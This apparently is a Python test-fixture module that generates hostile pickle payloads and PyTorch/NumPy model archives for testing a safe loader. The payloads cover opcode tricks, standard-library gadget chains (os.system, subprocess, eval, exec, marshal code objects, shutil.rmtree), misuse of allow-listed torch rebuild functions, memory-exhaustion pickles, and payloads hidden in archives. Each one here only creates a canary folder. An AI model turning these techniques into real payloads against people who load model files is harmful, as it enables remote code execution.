"""Hostile pickles, all made here. Every payload makes one folder, the canary, and does nothing else.

`live_pickles` are those whose payload CPython's own unpickler runs, which a test tries: duds would prove nothing.
"""

from __future__ import annotations

import io
import marshal
import struct
import tarfile
from pathlib import Path

from file_bytes import name, tensor, text, torch_legacy, torch_zip, whole, zip_bytes

EXTENSION = 0x42  # the code under which a test registers os.mkdir with copyreg
_MKDIR = name("os", "mkdir")
_OBJECT = name("types", "SimpleNamespace") + b")R"
_PARAMETERS = name("torch.nn.modules.container", "ParameterDict") + b")\x81"


def pickled(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def live_pickles(path: str) -> dict[str, bytes]:
    """Pickles that make the folder (or file) `path` when CPython unpickles them, by the way in which they do."""
    return _by_instruction(path) | _by_function(path)


def _by_instruction(path: str) -> dict[str, bytes]:
    """Each family of instructions that reaches a callable, and what hides it from an eye or a scanner."""
    make = _apply(_MKDIR, text(path))
    quoted = b"S" + repr(path).encode() + b"\n"  # a text as in protocol 0
    to_path = b"(" + text(path) + b"tR"
    stack_name = _short("os") + _short("mkdir") + b"\x93"
    memoized = _short("os") + b"\x940" + _short("mkdir") + b"\x940h\x00h\x01\x93"
    # A class whose __new__ goes through an iterator, and the iterator makes the folder.
    iterated = (
        name("builtins", "bytes") + b"(" + name("builtins", "map") + b"(" + _MKDIR + _list(text(path)) + b"t\x81t"
    )
    setter = b"}" + text("__setstate__") + _MKDIR + b"s"
    partial = _apply(name("functools", "partial"), name("builtins", "len"))
    in_storage = text("storage") + make + text("0") + text("cpu") + whole(1)
    bodies = {
        "GLOBAL REDUCE": (2, make),
        "GLOBAL REDUCE, protocol 3": (3, make),
        "GLOBAL REDUCE, protocol 5": (5, make),
        "STACK_GLOBAL": (4, stack_name + to_path),
        "STACK_GLOBAL, dotted": (4, _short("os") + _short("path.os.mkdir") + b"\x93" + to_path),
        "STACK_GLOBAL, memoized": (4, memoized + to_path),
        "FRAME": (4, _framed(stack_name + to_path)),
        "INST": (2, b"(" + text(path) + b"ios\nmkdir\n"),
        "INST, quoted": (2, b"(" + quoted + b"ios\nmkdir\n"),
        "OBJ": (2, b"(" + _MKDIR + text(path) + b"o"),
        "NEWOBJ": (2, iterated + b"\x81"),
        "NEWOBJ_EX": (4, iterated + b"}\x92"),
        "BUILD, planted __setstate__": (2, _OBJECT + setter + b"b" + text(path) + b"b"),
        "BUILD, planted in slots": (2, _OBJECT + b"N" + setter + b"\x86b" + text(path) + b"b"),
        "BUILD, __setstate__ of partial": (2, partial + b"(" + _MKDIR + b"(" + text(path) + b"t}Ntb)R"),
        "BINPERSID": (2, make + b"Q"),
        "BINPERSID of a storage": (2, b"(" + in_storage + b"tQ"),
        "EXT1": (2, b"\x82" + bytes([EXTENSION]) + to_path),
        "EXT2": (2, b"\x83" + struct.pack("<H", EXTENSION) + to_path),
        "EXT4": (2, b"\x84" + struct.pack("<i", EXTENSION) + to_path),
        "POP hides it": (2, make + b"0}"),
        "POP_MARK hides it": (2, b"(" + make + b"1}"),
        "DUP": (2, _MKDIR + b"20" + to_path),
        "TUPLE1": (2, _MKDIR + text(path) + b"\x85R"),
        "PUT and GET": (2, _MKDIR + b"p7\n0g7\n" + to_path),
        "BINPUT and BINGET": (2, _MKDIR + b"q\x070h\x07" + to_path),
        "LONG_BINPUT and LONG_BINGET": (2, _MKDIR + b"r\x07\x01\x00\x000j\x07\x01\x00\x00" + to_path),
        "as a value": (2, b"}" + text("emb") + make + b"s"),
        "as a key": (2, b"}" + make + b"Ns"),
        "in a set": (4, b"\x8f(" + make + b"\x90"),
        "pickle in a pickle": (3, _apply(name("_pickle", "loads"), _bytes(pickled(make)))),
        "stream in a pickle": (3, _apply(name("pickle", "load"), _apply(name("io", "BytesIO"), _bytes(pickled(make))))),
    }
    signless = {  # protocols 0 and 1 have no first byte that tells them
        "protocol 0": b"cos\nmkdir\n(" + quoted + b"tR.",
        "protocol 0, INST": b"(" + quoted + b"ios\nmkdir\n.",
        "protocol 1": b"cos\nmkdir\n" + to_path + b".",
    }
    return {kind: pickled(body, protocol) for kind, (protocol, body) in bodies.items()} | signless


def _by_function(path: str) -> dict[str, bytes]:
    """Chains through the standard library, which block lists have missed one after the other."""
    statement = text(f"import os; os.mkdir({path!r})")
    expression = text(f"__import__('os').mkdir({path!r})")
    command, words = text(f"mkdir {path}"), _list(text("mkdir"), text(path))
    to_path = b"(" + text(path) + b"tR"
    module = _apply(name("importlib", "import_module"), text("os"))
    code = marshal.dumps(compile(f"import os; os.mkdir({path!r})", "payload", "exec"))
    mapped = _apply(name("builtins", "map"), _MKDIR, _list(text(path)))
    starred = _apply(name("itertools", "starmap"), _MKDIR, _list(b"(" + text(path) + b"t"))
    thread = _apply(name("threading", "Thread"), b"N", _MKDIR, b"N(" + text(path) + b"t")
    stack = name("contextlib", "ExitStack") + b")Rq\x00"
    pushed = _apply(_attribute(stack, "callback"), _MKDIR, text(path)) + b"0"
    passing = _apply(name("functools", "partial"), name("builtins", "len"))  # gone as soon as it is made
    folder, own_name = Path(path).parent, Path(path).name
    bodies = {
        "os.makedirs": _apply(name("os", "makedirs"), text(path)),
        "os.system": _apply(name("os", "system"), command),
        "posix.system": _apply(name("posix", "system"), command),
        "os.popen": _apply(_attribute(_apply(name("os", "popen"), command), "read")),
        "os.spawnlp": _apply(name("os", "spawnlp"), whole(0), text("mkdir"), text("mkdir"), text(path)),
        "subprocess.call": _apply(name("subprocess", "call"), words),
        "subprocess.check_output": _apply(name("subprocess", "check_output"), words),
        "subprocess.getoutput": _apply(name("subprocess", "getoutput"), command),
        "uuid": _apply(name("uuid", "_get_command_stdout"), text("mkdir"), text(path)),
        "builtins.eval": _apply(name("builtins", "eval"), expression),
        "builtins.exec": _apply(name("builtins", "exec"), statement),
        "__builtin__.eval": _apply(name("__builtin__", "eval"), expression),
        "builtins.getattr": _attribute(module, "mkdir") + to_path,
        "builtins.__import__": _attribute(_apply(name("builtins", "__import__"), text("os")), "mkdir") + to_path,
        "builtins.open": _apply(name("builtins", "open"), text(path), text("w")),
        "builtins.map": _apply(name("builtins", "list"), mapped),
        "builtins.max": _apply(name("builtins", "max"), mapped),
        "functools.partial": _apply(name("functools", "partial"), _MKDIR, text(path)) + b")R",
        "functools.reduce": _apply(name("functools", "reduce"), _MKDIR, _list(text(path), whole(0o777))),
        "operator.attrgetter": _apply(_apply(name("operator", "attrgetter"), text("mkdir")), module) + to_path,
        "operator.methodcaller": _apply(_apply(name("operator", "methodcaller"), text("mkdir"), text(path)), module),
        "itertools.starmap": _apply(name("collections", "deque"), starred),
        "timeit": _apply(name("timeit", "timeit"), text("pass"), statement, name("time", "time"), whole(1)),
        "cProfile": _apply(name("cProfile", "run"), statement, text(str(folder / "profile"))),
        "trace": _apply(_attribute(name("trace", "Trace") + b")R", "run"), statement),
        "code": _apply(_attribute(name("code", "InteractiveInterpreter") + b")R", "runsource"), statement),
        "codecs.open": _apply(name("codecs", "open"), text(path), text("w")),
        "_io.FileIO": _apply(name("_io", "FileIO"), text(path), text("w")),
        "logging.FileHandler": _apply(name("logging", "FileHandler"), text(path)),
        "zipfile.ZipFile": _apply(name("zipfile", "ZipFile"), text(path), text("w")),
        "tempfile.mkdtemp": _apply(name("tempfile", "mkdtemp"), text(""), text(own_name), text(str(folder))),
        "weakref.finalize": _apply(name("weakref", "finalize"), passing, _MKDIR, text(path)) + b"0}",
        "contextlib.ExitStack": pushed + _apply(_attribute(b"h\x00", "close")),
        "threading.Thread": _apply(_attribute(thread, "run")),
    }
    code_object = _apply(name("marshal", "loads"), _bytes(code))
    function = _apply(name("types", "FunctionType"), code_object, b"}")
    with_bytes = {"types.FunctionType": pickled(_apply(function), 3)}
    return {kind: pickled(body) for kind, body in bodies.items()} | with_bytes


def other_pickles(path: str) -> dict[str, bytes]:
    """Pickles that need PyTorch or more to do harm, that abuse the names which embeddings need, or that fill memory."""
    make = _apply(_MKDIR, text(path))
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    from_type = name("torch._tensor", "_rebuild_from_type_v2")
    doubled = b")q\x00" + b"".join(b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(60))
    lists = b"](" + b"".join(b"](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60)) + b"e"
    revive = _PARAMETERS + b"}" + text("_parameters") + b"}" + text("a")
    long_list = b"](" + b"N" * 80_000 + b"eq\x00"
    long_tuple = b"(" + b"N" * 80_000 + b"tq\x00"
    bodies = {
        "torch.hub.load": _apply(name("torch.hub", "load"), text("someone/thing"), text("entry")),
        "torch.load": _apply(name("torch", "load"), _apply(name("io", "BytesIO"), make)),
        "torch.serialization.load": _apply(name("torch.serialization", "load"), text(path)),
        "torch.storage._load_from_bytes": _apply(name("torch.storage", "_load_from_bytes"), text("x")),
        "torch.serialization._get_layout": _apply(name("torch.serialization", "_get_layout"), text("os.mkdir")),
        "torch._utils._import_dotted_name": _apply(
            _apply(name("torch._utils", "_import_dotted_name"), text("os.mkdir"))
        )
        + b"0}",
        "torch._utils, dotted": _short("torch._utils") + _short("_rebuild_tensor_v2.__globals__") + b"\x93",
        "collections, dotted": _short("collections") + _short("abc.sys.modules") + b"\x93",
        "ParameterDict, dotted": _short("torch.nn.modules.container") + _short("ParameterDict.__init__") + b"\x93",
        "torch.jit.load": _apply(name("torch.jit", "load"), text(path)),
        "torch.jit.unsupported_tensor_ops.execWrapper": _apply(
            name("torch.jit.unsupported_tensor_ops", "execWrapper"), text("1"), b"}", b"}"
        ),
        "torch.utils.data.datapipes": _apply(name("torch.utils.data.datapipes.utils.decoder", "basichandlers"), make),
        "torch.cuda.memory": _apply(name("torch.cuda.memory", "_dump_snapshot"), text(path)),
        "numpy.load": _apply(name("numpy", "load"), text(path), b"N\x88"),
        "numpy.testing": _apply(name("numpy.testing._private.utils", "runstring"), text("1"), b"}"),
        "numpy.core.multiarray": _apply(name("numpy.core.multiarray", "_reconstruct"), make, b")", text("b")),
        "pty.spawn": _apply(name("pty", "spawn"), _list(text("mkdir"), text(path))),
        "webbrowser.open": _apply(name("webbrowser", "open"), text("file:///")),
        "ctypes.CDLL": _apply(name("ctypes", "CDLL"), text(path)),
        "nt.system": _apply(name("nt", "system"), text("mkdir x")),
        "runpy.run_path": _apply(name("runpy", "run_path"), text(path)),
        "pip": _apply(name("pip", "main"), _list(text("install"), text("x"))),
        "pydoc.pipepager": _apply(name("pydoc", "pipepager"), text(""), text(f"mkdir {path}")),
        "shutil.rmtree": _apply(name("shutil", "rmtree"), text(path)),
        "sys.modules": name("sys", "modules"),
        "a module of the pack": _apply(name("ti_engine.files", "save_embedding"), text(path)),
        # the allowed names, used in ways that no embedding uses them
        "a payload as argument": _apply(rebuild, make, whole(0), b")", b")", b"\x89N"),
        "a payload as function": _apply(from_type, _MKDIR, name("torch", "Tensor"), b"(" + text(path) + b"t", b"}"),
        "a function in a function": _apply(from_type, from_type, b"N)N"),
        "a payload as hook": tensor(end=b"\x89" + make),
        "a payload as number format": tensor(kind=_MKDIR),
        "a storage that is called": _apply(name("torch", "FloatStorage"), whole(1 << 40)),
        "a number format that is called": _apply(name("torch", "float32"), text(path)),
        "a text that is called": _apply(text("os.mkdir"), text(path)),
        "a ParameterDict with arguments": name("torch.nn.modules.container", "ParameterDict")
        + text(path)
        + b"\x85\x81",
        "a ParameterDict with a planted __setstate__": (
            _PARAMETERS + b"}" + text("__setstate__") + name("builtins", "set") + b"sb" + text(path) + b"b"
        ),
        "a ParameterDict without parameters": _PARAMETERS + b"}b",
        "a ParameterDict of text": _PARAMETERS + b"}" + text("_parameters") + text(path) + b"sb",
        "a state for a list": b"]}b",
        "a state for a text": text(path) + b"}b",
        "a name as content": name("builtins", "set"),
        "a name as key": b"}" + name("builtins", "set") + b"Ns",
        "an OrderedDict of arguments": _apply(name("collections", "OrderedDict"), _list(b"](" + make + b"Ne")),
        "a tensor as key": b"}" + tensor() + b"Ns",
        "PERSID": b"Pos.mkdir\n",
        "BINPERSID of a module": b"(" + text("module") + _MKDIR + text("f.py") + text("import os") + b"tQ",
        "BINPERSID of a text": text(path) + b"Q",
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": b"\x97\x98",
        "an instruction that does not exist": b"\xff",
        "protocol 99": b"\x80\x63N",
        # sizes and shapes
        "a dict key that takes for ever to hash": b"}" + doubled + b"Ns",
        "dict keys that all have one hash": b"}("
        + b"".join(whole(n * ((1 << 61) - 1)) + b"N" for n in range(40_000))
        + b"u",
        "a list of lists of lists": b"()q\x00" + lists + b"t",
        "a tuple of tuples of tuples": doubled,
        "a list that contains itself": b"]q\x00h\x00a",
        "a dict that contains itself": b"}q\x00" + text("a") + b"h\x00s",
        "40,000 lists in each other": b"]" * 40_000 + b"a" * 39_999,
        "90,000 tuples in each other": b")" + b"\x85" * 90_000,
        "9,000 ParameterDicts in each other": revive * 9_000 + b"N" + b"ssb" * 9_000,
        "a long list given again and again": b"("
        + long_list
        + (name("builtins", "set") + b"h\x00\x85R") * 3_000
        + b"t",
        "long arguments again and again": b"(" + long_tuple + (rebuild + b"h\x00R") * 3_000 + b"t",
        "3,000,000 instructions": b"(" + b"N" * 3_000_000 + b"t",
        "a text of 4 GiB": b"X\xff\xff\xff\xff",
        "a text of 8 EiB": b"\x8d" + struct.pack("<Q", 1 << 63),
        "bytes of 8 EiB": b"\x8e" + struct.pack("<Q", 1 << 63),
        "a bytearray of 8 EiB": b"\x96" + struct.pack("<Q", 1 << 63),
        "a frame of 8 EiB": b"\x95" + struct.pack("<Q", 1 << 63) + b"}",
        "a number of 2 GiB": b"\x8b\xff\xff\xff\x7f",
        "a number of a million digits": b"L" + b"9" * 1_000_000 + b"L\n",
        "a memo of 4 GiB": b"Nr\xff\xff\xff\xff",
        "a shape of 2 ** 62": tensor((1 << 31, 1 << 31), (1 << 31, 1)),
        "a tensor larger than its storage": tensor((200, 3), (3, 1)),
        "a negative shape": tensor((-2, 3)),
        "a negative stride": tensor((2, 3), (-3, 1), offset=3),
        "a negative offset": tensor(offset=-1),
        "an offset beyond the storage": tensor(offset=7),
        "a stride of 0": tensor((1 << 20, 1 << 10), (0, 0)),
        "overlapping rows": tensor((1 << 24, 6), (0, 1)),
        "one row 20,000 times": tensor((20_000, 200), (0, 1), 200),
        "nine dimensions": tensor((1,) * 9, (1,) * 9),
        "more strides than sizes": tensor((2, 3), (3, 1, 1)),
        "an empty tensor of huge sides": tensor((0, 1 << 62, 1 << 62), (1, 1, 1)),
        "a storage of 2 ** 60 numbers": tensor((1 << 30, 1 << 30), (1 << 30, 1), count=1 << 60),
        "a storage of -1 numbers": tensor(count=-1),
        "a storage that is not there": tensor(key="7"),
        "a storage outside of the archive": tensor(key="../data.pkl"),
        "a shape of text": rebuild
        + b"("
        + _storage()
        + whole(0)
        + text("ab")
        + b"\x85"
        + whole(1)
        + b"\x85\x89Nt"
        + b"R",
        "a shape of True": rebuild + b"(" + _storage() + whole(0) + b"\x88\x85" + whole(1) + b"\x85\x89Nt" + b"R",
    }
    return {kind: pickled(body, 4) for kind, body in bodies.items()}


def hostile_archives(path: str) -> dict[str, bytes]:
    """One payload in all that an archive of PyTorch's may be or may have been."""
    payload = pickled(_apply(_MKDIR, text(path)))
    harmless = pickled(b"}" + text("emb") + tensor() + b"s")
    numbers = {"0": bytes(24)}
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        for member in ("sys_info", "pickle", "storages", "tensors"):
            information = tarfile.TarInfo(member)
            information.size = len(payload)
            archive.addfile(information, io.BytesIO(payload))
    return {
        "zip": torch_zip(payload),
        "zip, with storages": torch_zip(payload, numbers),
        "legacy": torch_legacy(payload),
        "legacy, as magic number": payload,
        "legacy, as keys": torch_legacy(harmless)[:-5] + payload,
        "legacy, as computer": torch_legacy(b"")[:15] + b"\x80\x02M\xe9\x03." + payload,
        "tar": tar.getvalue(),
        "TorchScript": torch_zip(harmless, numbers, **{"code/__torch__.py": b"import os", "constants.pkl": payload}),
        "TorchScript constants": torch_zip(harmless, numbers, **{"constants.pkl": payload}),
        "two pickles": zip_bytes({"archive/data.pkl": harmless, "b/data.pkl": payload, "archive/data/0": bytes(24)}),
        "behind the pickle": torch_zip(harmless + payload, numbers),
        "archive in an archive": zip_bytes({"x.pt": torch_zip(payload)}),
        "package": zip_bytes({"p/.data/version": b"1", "p/model.pkl": payload, "p/code.py": b"import os"}),
        "npz": zip_bytes({"arr_0.npy": b"\x93NUMPY" + payload}),
    }


def _storage() -> bytes:
    return b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + whole(6) + b"tQ"


def _apply(function: bytes, *arguments: bytes) -> bytes:
    """Instructions that call what `function` pushes with what `arguments` push."""
    return function + b"(" + b"".join(arguments) + b"tR"


def _attribute(owner: bytes, attribute: str) -> bytes:
    return _apply(name("builtins", "getattr"), owner, text(attribute))


def _short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _framed(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) + 1) + body
